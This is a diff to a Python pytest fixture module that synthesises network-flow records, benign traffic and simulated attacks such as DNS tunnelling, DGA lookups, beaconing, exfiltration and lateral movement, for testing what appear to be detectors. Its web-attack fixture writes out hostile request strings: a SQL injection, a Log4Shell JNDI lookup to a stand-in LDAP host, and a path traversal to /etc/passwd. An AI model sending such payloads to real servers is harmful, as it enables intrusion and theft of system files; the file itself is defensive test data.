@@ -114,9 +114,16 @@ class Synth:
 
     @staticmethod
     def batches(*parts: dict, batch_rows: int = 1_000) -> list[RecordBatch]:
-        """Merge column dicts, order by end time, cut into batches."""
-        whole = FLOW.make_batch({k: np.concatenate([np.asarray(p[k]) for p in parts])
-                                 for k in parts[0]}) if len(parts) > 1 else FLOW.make_batch(parts[0])
+        """Merge column dicts (a column missing from a part gets its defaults), order by end time,
+        cut into batches."""
+        def column(part: dict, name: str) -> np.ndarray:
+            if name in part:
+                return np.asarray(part[name])
+            return FLOW.field(name).empty(len(part["flow_id"]))
+
+        names = list(dict.fromkeys(k for p in parts for k in p))
+        whole = FLOW.make_batch({k: np.concatenate([column(p, k) for p in parts])
+                                 for k in names}) if len(parts) > 1 else FLOW.make_batch(parts[0])
         order = np.argsort(whole.columns["last_seen_ms"], kind="stable")
         whole = whole.take(order)
         return [whole.take(np.arange(i, min(i + batch_rows, len(whole))))
@@ -132,3 +139,153 @@ def synth() -> Synth:
 @pytest.fixture(scope="session")
 def synth_cls() -> type[Synth]:
     return Synth
+
+
+# --- traffic with protocol hints (DNS, HTTP, TLS) and the attacks seen through them -------------
+
+DNS_NAMES = ("www.example.com", "api.bank.example", "login.microsoftonline.com", "cdn.jsdelivr.net",
+             "www.google.com", "update.googleapis.com", "e1234.dscb.akamaiedge.net", "outlook.office365.com",
+             "r3---sn-4g5e6nsz.googlevideo.com", "ocsp.digicert.com", "fonts.gstatic.com",
+             "internal-app-1234567890.eu-west-1.elb.amazonaws.com", "www.wikipedia.org", "s3.amazonaws.com",
+             "ntp.ubuntu.com", "safebrowsing.googleapis.com", "portal.insurer-b.example", "www.ecb.europa.eu")
+WEB_URIS = ("/", "/index.html", "/api/v1/accounts?id=123&sort=desc", "/search?q=union+station+chicago",
+            "/static/js/app.min.js?v=1.2.3", "/login?next=%2Fdashboard", "/img/logo.png",
+            "/api/items?filter=price%3E10%20and%20qty%3C5", "/news/2024/05/sleep-well",
+            "/download?file=report-2024.pdf", "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D", "/robots.txt")
+
+
+def _hinted(self: Synth, n: int, first: np.ndarray, institution: str, src: list, dst: list, dst_port,
+            proto, c2s_packets, c2s_bytes, s2c_packets, s2c_bytes, **hints) -> dict:
+    """A column dict with every column the hinted generators produce (hint columns default empty)."""
+    cols = {
+        "flow_id": self._ids(n), "first_seen_ms": first, "last_seen_ms": first + self.rng.integers(1, 400, n),
+        "institution_id": [institution] * n, "protocol": np.broadcast_to(proto, n).copy(), "ip_version": [4] * n,
+        "src_ip": list(src), "dst_ip": list(dst), "dst_port": np.broadcast_to(dst_port, n).copy(),
+        "src_port": self.rng.integers(32768, 61000, n),
+        "src2dst_packets": np.broadcast_to(c2s_packets, n).copy(), "src2dst_bytes": np.broadcast_to(c2s_bytes, n).copy(),
+        "dst2src_packets": np.broadcast_to(s2c_packets, n).copy(), "dst2src_bytes": np.broadcast_to(s2c_bytes, n).copy(),
+        "src2dst_tcp_flags": np.where(np.broadcast_to(proto, n) == 6, 27, 0),
+        "dst2src_tcp_flags": np.where(np.broadcast_to(proto, n) == 6, 27, 0),
+        "dns_query": [""] * n, "dns_qtype": np.zeros(n, int), "dns_rcode": np.zeros(n, int),
+        "tls_sni": [""] * n, "tls_ja4": [""] * n, "http_host": [""] * n, "http_method": [""] * n,
+        "http_uri": [""] * n,
+    }
+    cols.update({k: (list(v) if not isinstance(v, np.ndarray) else v) for k, v in hints.items()})
+    return cols
+
+
+def benign_hinted(self: Synth, n: int, start_ms: int = T0_MS, duration_ms: int = 300_000,
+                  institution: str = "bank-a", n_clients: int = 300, net: str = "10.1") -> dict:
+    """Clients resolving ordinary names (2% NXDOMAIN), browsing ordinary URIs, TLS with SNI,
+    NTP to a pool every 64 s, and admins using SSH/RDP/SMB to a few internal servers."""
+    rng = self.rng
+    clients = np.array([f"{net}.{1 + i // 250}.{1 + i % 250}" for i in range(n_clients)], dtype=object)
+    first = start_ms + np.sort(rng.integers(0, duration_ms, n))
+    src = clients[rng.integers(0, n_clients, n)]
+    kind = rng.choice(4, n, p=[0.45, 0.2, 0.3, 0.05])  # dns, http, tls, admin
+    name = np.array(DNS_NAMES, dtype=object)[rng.integers(0, len(DNS_NAMES), n)]
+    nx = (kind == 0) & (rng.random(n) < 0.02)
+    name = np.where(nx, "wpad.corp.bank-a.local", name)
+    uri = np.array(WEB_URIS, dtype=object)[rng.integers(0, len(WEB_URIS), n)]
+    ext = np.array([f"198.51.100.{i}" for i in range(1, 41)], dtype=object)[rng.integers(0, 40, n)]
+    admin = np.array([f"{net}.100.{i}" for i in (4, 5, 7)], dtype=object)[rng.integers(0, 3, n)]
+    admin_port = np.where(admin == f"{net}.100.4", 22, np.where(admin == f"{net}.100.5", 445, 3389))
+    dst = np.select([kind == 0, kind == 3], [f"{net}.100.3", admin], ext)
+    cols = _hinted(self, n, first, institution, src, dst, np.select([kind == 0, kind == 1, kind == 3], [53, 80, admin_port], 443),
+                   np.where(kind == 0, 17, 6), np.where(kind == 0, 1, rng.integers(4, 40, n)),
+                   np.where(kind == 0, rng.integers(60, 90, n), rng.integers(400, 20_000, n)),
+                   np.where(kind == 0, 1, rng.integers(4, 60, n)), rng.integers(100, 200_000, n),
+                   dns_query=np.where(kind == 0, name, ""), dns_qtype=np.where(kind == 0, rng.choice([1, 28], n), 0),
+                   dns_rcode=np.where(nx, 3, 0), http_host=np.where(kind == 1, "www.example.com", ""),
+                   http_method=np.where(kind == 1, "GET", ""), http_uri=np.where(kind == 1, uri, ""),
+                   tls_sni=np.where(kind == 2, name, ""))
+    ntp_src = clients[:5]
+    beats = np.arange(start_ms, start_ms + duration_ms, 64_000)
+    ntp = _hinted(self, len(ntp_src) * len(beats), np.repeat(beats, len(ntp_src)), institution,
+                  np.tile(ntp_src, len(beats)), ["192.0.2.123"] * (len(ntp_src) * len(beats)), 123, 17, 1, 90, 1, 90)
+    return {k: np.concatenate([np.asarray(cols[k]), np.asarray(ntp[k])]) for k in cols}
+
+
+def dns_tunnel(self: Synth, client: str, n: int, start_ms: int, domain: str = "t.exfil-example.com",
+               resolver: str = "10.1.100.3", institution: str = "bank-a", spacing_ms: int = 500) -> dict:
+    """dnscat-like: one query per flow, 60 hex characters of payload per name, TXT."""
+    payload = [self.rng.bytes(30).hex() for _ in range(n)]
+    first = start_ms + np.arange(n) * spacing_ms
+    return _hinted(self, n, first, institution, [client] * n, [resolver] * n, 53, 17, 1, 150, 1, 220,
+                   dns_query=[f"{p}.{domain}" for p in payload], dns_qtype=np.full(n, 16), dns_rcode=np.zeros(n, int))
+
+
+def dga(self: Synth, client: str, n: int, start_ms: int, resolver: str = "10.1.100.3",
+        institution: str = "bank-a", nx_share: float = 0.9) -> dict:
+    """A bot trying random-letter domains, most of them unregistered (NXDOMAIN)."""
+    letters = np.array(list("abcdefghijklmnopqrstuvwxyz"))
+    names = ["".join(self.rng.choice(letters, self.rng.integers(10, 18))) + self.rng.choice([".com", ".net", ".biz"])
+             for _ in range(n)]
+    first = start_ms + np.sort(self.rng.integers(0, 20_000, n))
+    return _hinted(self, n, first, institution, [client] * n, [resolver] * n, 53, 17, 1, 80, 1, 80,
+                   dns_query=names, dns_qtype=np.ones(n, int), dns_rcode=np.where(self.rng.random(n) < nx_share, 3, 0))
+
+
+def beacon(self: Synth, src: str, dst: str, n: int, start_ms: int, interval_ms: int = 30_000,
+           jitter: float = 0.1, port: int = 443, institution: str = "bank-a") -> dict:
+    """An implant calling home every ``interval_ms`` +/- ``jitter`` with alike small requests."""
+    first = start_ms + np.arange(n) * interval_ms + (self.rng.uniform(-jitter, jitter, n) * interval_ms).astype(np.int64)
+    return _hinted(self, n, first, institution, [src] * n, [dst] * n, port, 6, 6,
+                   900 + self.rng.integers(-30, 30, n), 5, 1_400 + self.rng.integers(-100, 100, n))
+
+
+def exfil(self: Synth, src: str, dst: str, total_bytes: int, start_ms: int, n: int = 30,
+          duration_ms: int = 60_000, institution: str = "bank-a") -> dict:
+    """Large uploads from an internal host to one external address."""
+    first = start_ms + np.sort(self.rng.integers(0, duration_ms, n))
+    per = total_bytes // n
+    return _hinted(self, n, first, institution, [src] * n, [dst] * n, 443, 6, per // 1400, per, per // 2800, 40_000)
+
+
+def icmp_tunnel(self: Synth, src: str, dst: str, n: int, start_ms: int, institution: str = "bank-a") -> dict:
+    """ICMP echo flows carrying ~1 kB per packet."""
+    first = start_ms + np.arange(n) * 1_000
+    return _hinted(self, n, first, institution, [src] * n, [dst] * n, 0, 1, 60, 60 * 1_024, 60, 60 * 1_024)
+
+
+def lateral(self: Synth, src: str, hosts: list, start_ms: int, port: int = 445, institution: str = "bank-a",
+            psexec: bool = False) -> dict:
+    """A source reaching many internal hosts on an admin port; ``psexec``: a short SMB probe,
+    then a session uploading ~300 kB, per host."""
+    hosts = list(hosts)
+    per = 2 if psexec else 1
+    n = len(hosts) * per
+    first = start_ms + np.arange(n) * 1_500
+    sent = np.tile([1_200, 300_000], len(hosts)) if psexec else np.full(n, 1_500)
+    return _hinted(self, n, first, institution, [src] * n, np.repeat(hosts, per), port, 6,
+                   np.maximum(sent // 1400, 4), sent, 8, 3_000)
+
+
+def web_attack(self: Synth, attacker: str, server: str, uris: list, start_ms: int, institution: str = "bank-a") -> dict:
+    """HTTP requests carrying the given URIs to one server."""
+    n = len(uris)
+    first = start_ms + np.arange(n) * 700
+    return _hinted(self, n, first, institution, [attacker] * n, [server] * n, 80, 6, 5, 700, 5, 2_000,
+                   http_host=["portal.bank-a.example"] * n, http_method=["GET"] * n, http_uri=list(uris))
+
+
+def hinted_attacks(self: Synth, start_ms: int, institution: str = "bank-a", net: str = "10.1") -> list[dict]:
+    """One of each attack the hint-based detectors look for, within ~100 s from ``start_ms``."""
+    return [
+        self.dns_tunnel(f"{net}.1.77", 150, start_ms, resolver=f"{net}.100.3", institution=institution),
+        self.dga(f"{net}.1.78", 40, start_ms, resolver=f"{net}.100.3", institution=institution),
+        self.beacon(f"{net}.1.79", "192.0.2.66", 12, start_ms - 60_000, interval_ms=12_000, institution=institution),
+        self.exfil(f"{net}.1.80", "203.0.113.201", 300_000_000, start_ms, institution=institution),
+        self.lateral(f"{net}.1.81", [f"{net}.50.{i}" for i in range(1, 13)], start_ms, institution=institution,
+                     psexec=True),
+        self.web_attack("203.0.113.99", f"{net}.100.80", ["/x?id=1%27%20or%201=1--", "/${jndi:ldap://e.example/a}",
+                                                           "/..%2f..%2fetc%2fpasswd"], start_ms, institution=institution),
+    ]
+
+
+for _f in (benign_hinted, dns_tunnel, dga, beacon, exfil, icmp_tunnel, lateral, web_attack, hinted_attacks):
+    setattr(Synth, _f.__name__, _f)
+
+#: Threat-intel indicators matching :func:`hinted_attacks` (the beacon's home), for detectors
+#: that need them given.
+HINTED_INDICATORS = {"addresses": ("192.0.2.66",), "domains": ("exfil-example.com",)}
